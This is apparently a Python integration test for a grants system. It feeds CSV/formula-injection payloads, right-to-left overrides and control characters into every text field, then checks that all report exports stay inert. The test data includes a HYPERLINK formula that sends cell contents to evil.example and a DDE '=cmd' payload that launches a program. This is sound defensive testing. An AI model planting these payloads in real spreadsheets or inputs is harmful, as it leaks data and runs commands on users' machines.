"""R14: hostile text. Every top-level text field of every operation is sent formula prefixes (OWASP CSV
injection), control characters, right-to-left overrides and a string of the field's maximum length (10 kB where it
has none): control characters must be refused with InvalidInput naming that field, everything else answered
with a typed outcome (never an internal error, never a crashed service). Then a flow runs whose programme name,
proposal titles and organisation names are such text (nested fields included), and one archived row gets control
characters the input check would now refuse (a row from before it). Every export — the EC report as XLSX, CSV and
JSON, IATI (validated against the official XSD), 360Giving — and the scheduled report must still be produced,
valid and inert: no text cell is a formula, no formula-like CSV cell lacks its quote, no control character."""

from __future__ import annotations

import base64
import csv
import io
import json
import time
from datetime import date, timedelta

from marshmallow import fields, validate
from openpyxl import load_workbook
from sqlalchemy import text

from services.common.security.auth import ROLES
from services.common.values.errors import InvalidInput
from services.common.values.inert import CONTROL_CHARACTERS, formula_like
from services.gateway.catalogue import operations
from services.reporting.exports import iati
from tests.support.infra import REPO

from . import flow as flows_module
from .flow import Flow
from .scenario import scenario
from .staff import INTERNAL, OK, REFUSED, Caller, classify, error_name
from .testbed import Testbed

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "+SUM(1;2)",
    "-2+3*cmd",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
RTL = ["\u202eexe.fdp\u202c report", "\u2067=1+1\u2069 \u200f\u061c"]
CONTROLS = ["title\x0bvertical tab", "bell\x07", "escape\x1b[2J", "form\x0cfeed", "del\x7f", "c1\x85"]
LONG = 10_000


def max_length(field) -> int:
    validators = field.validators if isinstance(field.validators, (list, tuple)) else [field.validators]
    for v in validators:
        if isinstance(v, validate.Length) and v.max is not None:
            return v.max
    return LONG


def text_fields(schema) -> list[tuple[str, object]]:
    return [
        (name, f)
        for name, f in schema.fields.items()
        if isinstance(f, fields.String) and not isinstance(f, (fields.Email, fields.UUID))
    ]


def hostile_values(field) -> list[tuple[str, str]]:
    longest = max_length(field)
    return (
        [("formula", v) for v in FORMULAS]
        + [("rtl", v) for v in RTL]
        + [("control", v) for v in CONTROLS]
        + [("long", "=" + "x" * (longest - 1)), ("too long", "@" + "y" * longest)]
    )


class HostileFlow(Flow):
    """The flow, with a hostile programme name, proposal titles and organisation names (control characters
    left out: the input refuses them)."""

    texts = FORMULAS + RTL

    def submit(self, call_id: str, n: int, window: str, requested=flows_module.AMOUNT) -> dict:
        original = flows_module.flows.proposal

        def hostile(number, **kwargs):
            payload = original(number, **kwargs)
            text = self.texts[number % len(self.texts)]
            payload["title"] = (text + " " + payload["title"])[:300]
            for applicant in payload["applicants"]:
                applicant["name"] = (self.texts[(number + 3) % len(self.texts)] + " " + applicant["name"])[:300]
            if number % 5 == 0:
                payload["title"] = "=" + "T" * 299  # the field's maximum length
            return payload

        flows_module.flows.proposal = hostile
        try:
            return super().submit(call_id, n, window, requested)
        finally:
            flows_module.flows.proposal = original

    def load_programme(self, definition: dict | None = None):
        definition = definition or flows_module.programme(self.programme_id)
        definition["name"] = '=HYPERLINK("http://evil.example","JMDI") \u202eevil\u202c ' + definition["name"]
        super().load_programme(definition)


def sweep(caller: Caller, outcome, log) -> dict:
    """Every text field of every operation, alone in its payload, with every hostile value."""
    answers = {"sent": 0, OK: 0, REFUSED: 0, INTERNAL: 0, "controls_refused": 0}
    for op in operations():
        for name, field in text_fields(op.schema):
            for kind, value in hostile_values(field):
                answers["sent"] += 1
                try:
                    caller.call(op.service, op.name, {name: value})
                    exc = None
                except Exception as caught:  # classified below
                    exc = caught
                verdict = classify(exc)
                answers[verdict] = answers.get(verdict, 0) + 1
                if verdict not in (OK, REFUSED):
                    outcome.fail(f"{op.key}.{name} ({kind}): {verdict}: {error_name(exc)}: {str(exc)[:160]}")
                if kind == "control":
                    if isinstance(exc, InvalidInput) and name in exc.errors:
                        answers["controls_refused"] += 1
                    else:
                        outcome.fail(f"{op.key}.{name}: control characters not refused by name: {exc!r}"[:300])
    log(f"R14 sweep: {answers}")
    return answers


def check_xlsx(content: bytes, where: str, outcome) -> int:
    book = load_workbook(io.BytesIO(content))
    texts = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type == "f":
                    outcome.check(
                        not any(h in str(value) for h in ("HYPERLINK", "cmd", "@", "TTTT")),
                        f"{where}: {sheet.title}!{cell.coordinate} is a formula from the data: {value!r}"[:200],
                    )
                elif isinstance(value, str):
                    texts += 1
                    outcome.check(
                        not CONTROL_CHARACTERS.search(value),
                        f"{where}: control character in {sheet.title}!{cell.coordinate}",
                    )
                    outcome.check(
                        cell.data_type == "s" and (not formula_like(value) or cell.quotePrefix),
                        f"{where}: {sheet.title}!{cell.coordinate} not inert: {value[:40]!r}",
                    )
    return texts


def check_csv(text: str, where: str, outcome) -> int:
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    live = [c for c in cells if formula_like(c)]
    outcome.check(not live, f"{where}: {len(live)} formula-like CSV cells, e.g. {live[:1]!r}"[:200])
    outcome.check(not any(CONTROL_CHARACTERS.search(c) for c in cells), f"{where}: control character in the CSV")
    outcome.check(any(c.startswith("'=") for c in cells), f"{where}: the hostile titles are not in the CSV")
    return len(cells)


def file_bytes(result: dict) -> bytes:
    """A file as the reporting service returns it: text as `content`, bytes as `content_base64`."""
    if "content_base64" in result:
        return base64.b64decode(result["content_base64"])
    return result["content"].encode("utf-8")


@scenario(14, "hostile text in every field; every export produced, valid and inert")
def run(outcome, sizes, log, **_):
    extra = {"REPORT_SCHEDULE_SECONDS": "3"}
    with Testbed(log, extra_env=extra) as bed:
        caller = Caller(bed.system.amqp_uri, bed.system.token("r14.admin", list(ROLES)), timeout=60)
        try:
            answers = sweep(caller, outcome, log)
            hostile = HostileFlow(bed, "r14", threads=sizes.threads, per_window=2)
            try:
                hostile.batch(0)  # one call of the programme's life: proposals, ranking, awards, contracts, payments
            finally:
                hostile.close()
            for problem in hostile.problems:
                outcome.fail(f"flow: {problem}")
            bed.settle(sizes.settle_seconds)
            programme_id = f"{hostile.programme_id}0000"
            grants = bed.value("reporting", "SELECT count(*) FROM grant_facts WHERE programme_id = :p", p=programme_id)
            outcome.check(bool(grants), f"no grant of {programme_id} reached reporting")
            # a row archived before the input check: control characters in a title and an organisation's name;
            # every grant dated back, so the scheduled (last month's, last quarter's) reports count them
            past = date.today() - timedelta(days=200)
            with bed.system.db("reporting").begin() as conn:
                conn.execute(
                    text("UPDATE grant_facts SET decision_date = :d WHERE programme_id = :p"),
                    {"d": past, "p": programme_id},
                )
                # (cut to the columns' widths: the flow's titles and names may already be as long as allowed)
                conn.execute(
                    text(
                        "UPDATE grant_facts SET title = left(title, 300 - length(:c)) || :c, "
                        "lead_organisation = left(:o || lead_organisation, 300) "
                        "WHERE grant_id = (SELECT min(grant_id) FROM grant_facts WHERE programme_id = :p)"
                    ),
                    {"c": " \x0b\x07\x1b[2J", "o": "=cmd\x01|' /C calc'!A0 \x0c", "p": programme_id},
                )
                conn.execute(text("DELETE FROM report_files"))
            files = {}
            for fmt in ("xlsx", "csv", "json"):
                files[fmt] = caller.call("reporting", "budget_report", {"programme_id": programme_id, "format": fmt})
            texts = check_xlsx(file_bytes(files["xlsx"]), "budget_report xlsx", outcome)
            cells = check_csv(files["csv"]["content"], "budget_report csv", outcome)
            as_json = json.dumps(files["json"], ensure_ascii=False)
            outcome.check(not CONTROL_CHARACTERS.search(as_json), "control character in the JSON report")
            exported = caller.call("reporting", "iati_export", {"programme_id": programme_id})
            xml = file_bytes(exported)
            errors = iati.validate_iati(xml, REPO / "services" / "reporting" / "standards" / "iati-2.03")
            outcome.check(errors == [], f"IATI invalid: {errors[:2]}")
            giving = caller.call("reporting", "giving360_export", {"programme_id": programme_id})
            data = json.loads(file_bytes(giving))
            outcome.check(
                not CONTROL_CHARACTERS.search(json.dumps(data, ensure_ascii=False)),
                "control character in the 360Giving file",
            )
            # the scheduled job: its monthly and quarterly reports made again over the hostile data
            deadline = time.monotonic() + 60
            scheduled = []
            while time.monotonic() < deadline and len(scheduled) < 2:
                scheduled = [
                    r
                    for r in caller.call("reporting", "list_reports", {})
                    if r.get("generated_by") == "scheduler" or r.get("kind") in ("monthly", "quarterly")
                ]
                time.sleep(1)
            outcome.check(len(scheduled) >= 2, f"the scheduled reports were not produced: {scheduled}")
            for report in scheduled:
                got = caller.call("reporting", "get_report", {"report_id": report["report_id"]})
                content = file_bytes(got)
                if got.get("format") == "xlsx" or content[:2] == b"PK":
                    texts += check_xlsx(content, f"scheduled {report['kind']}", outcome)
            hostile_titles = bed.value(
                "reporting",
                "SELECT count(*) FROM grant_facts WHERE programme_id = :p AND "
                "(title LIKE '=%' OR title LIKE '+%' OR title LIKE '-%' OR "
                "title LIKE '@%')",
                p=programme_id,
            )
        finally:
            caller.close()
        outcome.figures = {
            "fields_x_values": answers["sent"],
            "accepted": answers[OK],
            "refused": answers[REFUSED],
            "internal": answers[INTERNAL],
            "controls_refused": answers["controls_refused"],
            "grants": grants,
            "hostile_titles": hostile_titles,
            "xlsx_text_cells": texts,
            "csv_cells": cells,
            "scheduled_reports": len(scheduled),
        }
